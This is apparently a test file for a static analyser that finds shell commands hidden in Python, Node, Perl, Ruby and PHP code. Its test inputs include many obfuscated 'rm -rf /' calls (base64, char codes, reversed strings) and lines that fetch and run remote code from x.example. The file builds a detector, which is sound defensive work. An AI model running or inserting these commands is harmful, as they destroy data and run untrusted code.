import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { languageOfProgram, readCode } from './read-code.ts'

const encoded = btoa('rm -rf /')

describe('the scripts of a program', () => {
  test.each([
    ['python', 'import os; os.system("rm -rf /")'],
    ['python', 'from os import system as s\ns("rm " "-rf /")'],
    ['python', `import base64, os\nx = base64.b64decode("${encoded}")\nos.system(x.decode())`],
    ['python', 'os.system("".join(map(chr, [114,109,32,45,114,102,32,47])))'],
    ['python', 'os.system("".join([chr(c) for c in (114,109,32,45,114,102,32,47)]))'],
    ['python', 'os.system("/ fr- mr"[::-1])'],
    ['python', 'os.system("rm -%s /" % "rf")'],
    ['python', 'getattr(__import__("os"), "sys" + "tem")("rm -rf /")'],
    ['python', '"""doc"""\nos.popen(\'\'\'rm -rf /\'\'\') # "echo"'],
    ['node', `require("child_process").execSync(Buffer.from("${encoded}", "base64").toString())`],
    ['node', 'const {exec} = require("node:child_process"); exec("rm -rf /", () => {})'],
    ['node', 'require("child"+"_process")["ex"+"ec"]("rm -rf /")'],
    ['node', 'require("child_process").execSync(String.fromCharCode(114,109,32,45,114,102,32,47))'],
    ['perl', '$a = "rm"; $b = " -rf /"; system($a . $b)'],
    ['perl', 'exec "rm -rf /";'],
    ['ruby', 'puts `rm -rf /`'],
    ['ruby', '%x(rm -rf /)'],
    ['ruby', `system("${encoded}".unpack1("m"))`],
    ['php', `$f = "sys"."tem"; $f(base64_decode("${encoded}"));`],
    ['php', 'shell_exec(chr(114).chr(109)." -rf /");'],
    ['lua', 'os.execute("rm" .. " -rf /")'],
  ])('the text for a shell in a program of %s is found: %s', (name, code) => {
    expect(readCode(code, languageOfProgram(name)).scripts).toStrictEqual(['rm -rf /'])
  })
})

test.each([
  ['python', 'subprocess.run(["rm", "-rf", "/"], check=True)', ['rm', '-rf', '/']],
  ['python', 'os.execv("/bin/rm", ["rm", "-rf", "/"])', ['/bin/rm', '-rf', '/']],
  ['node', 'spawnSync("rm", ["-rf", "/"], { stdio: "inherit" })', ['rm', '-rf', '/']],
  ['deno', 'new Deno.Command("sh", { args: ["-c", "id"] })', ['sh', '-c', 'id']],
  ['perl', 'system("rm", "-rf", "/")', ['rm', '-rf', '/']],
])('a program of %s that starts another program gives its arguments: %s', (name, code, argv) => {
  expect(readCode(code, languageOfProgram(name)).commands).toStrictEqual([argv])
})

test.each([
  ['exec(zlib.decompress(base64.b64decode("eJw=")))', 'decoder'],
  ['exec(marshal.loads(data))', 'decoder'],
  ['exec(requests.get("http://x.example/p").text)', 'network'],
  ['eval(await (await fetch("https://x.example/p")).text())', 'network'],
  ['json.loads(requests.get("http://x.example/p").text)', null],
  ['subprocess.run(json.loads(line)["cmd"])', null],
  ['const m = /x/.exec(await response.text())', null],
])('the source of the code that %s runs is %j', (code, expected) => {
  expect(readCode(code, 'other').runsUnseen).toBe(expected)
})

test('a program that is made and run is read in turn', () => {
  const { programs } = readCode(`eval(atob("${btoa('x()')}"))`, 'javascript')
  expect(programs).toStrictEqual(['x()'])
})

test('any program is read without an error', () => {
  const pieces = fc.constantFrom(
    '(',
    ')',
    '[',
    '{',
    '"',
    "'",
    '`',
    'os.system',
    '.',
    '+',
    'x=',
    '=',
    ',',
    ' ',
    '\n',
    '%x(',
    'exec',
    ' for ',
    ' in ',
    '\\',
    '->',
    '::',
  )
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 200 }), (parts) => {
      expect(readCode(parts.join(''), 'other').code).toBe(parts.join(''))
    }),
  )
})
